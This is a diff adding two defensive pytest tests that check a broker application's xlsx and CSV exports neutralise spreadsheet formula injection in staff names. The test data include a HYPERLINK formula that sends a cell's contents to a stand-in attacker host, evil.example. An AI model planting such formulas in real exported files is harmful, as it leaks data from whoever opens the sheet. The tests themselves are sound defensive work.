@@ -5,6 +5,7 @@ One test per finding of issue 18; each failed before its fix."""
 from __future__ import annotations
 
 import asyncio
+import csv
 import logging
 import os
 from collections.abc import AsyncIterator
@@ -18,6 +19,7 @@ import pytest
 import sqlalchemy as sa
 import uvicorn
 from fastapi import FastAPI
+from openpyxl import load_workbook
 
 from broker.alerts.routing import AlertsConfig, sign_ack
 from broker.api import login
@@ -25,12 +27,16 @@ from broker.api.app import create_app
 from broker.api.auth import add_user, disable_user, set_password
 from broker.api.config import ApiConfig
 from broker.api.throttle import LoginThrottle, Refused, source_key
+from broker.attendance.roster import StaffMember, import_roster
 from broker.config import ConsumerConfig, StoreConfig
+from broker.reports.sheets import Col, Sheet, write_csv
+from broker.sites import SiteConfig, Sites
 from broker.store.commands import audit
 from broker.store.db import Store
 from broker.store.schema import audit_log, incidents
 from config.base import ConfigError
 from protocol.ids import uuid7
+from runtime.clock import HALL_ZONE
 from tests.support.apps import free_port
 from tests.support.hall import ManualClock, wait_until
 
@@ -391,6 +397,39 @@ async def test_out_of_range_days_pages_and_months_are_a_422_naming_the_parameter
         ):
             r = await c.get(path, headers=h)
             assert r.status_code == 422 and field in r.json()["fields"], (path, r.status_code, r.text[:200])
+
+
+async def test_a_formula_in_a_staff_name_reaches_the_downloaded_workbook_as_text(
+    served: Served, tmp_path: Path
+) -> None:
+    """A roster comes from HR's spreadsheet and a queue window's name from the queue system: text, never code."""
+    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"王五")'
+    today = served.clock.now().astimezone(HALL_ZONE).date()
+    member = StaffMember("qp", "S9", evil, "=1+1", "W1", "A", today.replace(day=1))
+    served.app.state.sites = Sites({"qp": SiteConfig(go_live=today.replace(day=1))})  # judged from the 1st
+    await import_roster(served.store, [member], by="admin", at=served.clock.now())
+    async with served.client() as c:
+        h = await _bearer(served, c, "admin")
+        r = await c.get(f"/api/reports/attendance/qp/{today:%Y-%m}.xlsx", headers=h)
+    assert r.status_code == 200
+    (tmp_path / "report.xlsx").write_bytes(r.content)
+    cells = [cell for ws in load_workbook(tmp_path / "report.xlsx") for row in ws.iter_rows() for cell in row]
+    assert evil in [cell.value for cell in cells], "the name is in the workbook, as written"
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"], "no cell is a formula"
+
+
+def test_the_csv_writer_quotes_text_a_spreadsheet_would_run(tmp_path: Path) -> None:
+    rows = (('=HYPERLINK("http://evil.example")', -2), ("+1", 3), ("@SUM(A1)", 4), ("-", 5), ("平常", 6))
+    sheet = Sheet("s", "=t", (Col("窗口"), Col("n", "int")), rows)
+    write_csv(tmp_path / "r.csv", [sheet])
+    lines = list(csv.reader((tmp_path / "r.csv").read_text(encoding="utf-8-sig").splitlines()))
+    assert lines[0] == ["'=t"] and lines[2:] == [
+        ['\'=HYPERLINK("http://evil.example")', "-2"],
+        ["'+1", "3"],
+        ["'@SUM(A1)", "4"],
+        ["-", "5"],
+        ["平常", "6"],
+    ]
 
 
 # -- 7. what is audited ----------------------------------------------------------------------------------------
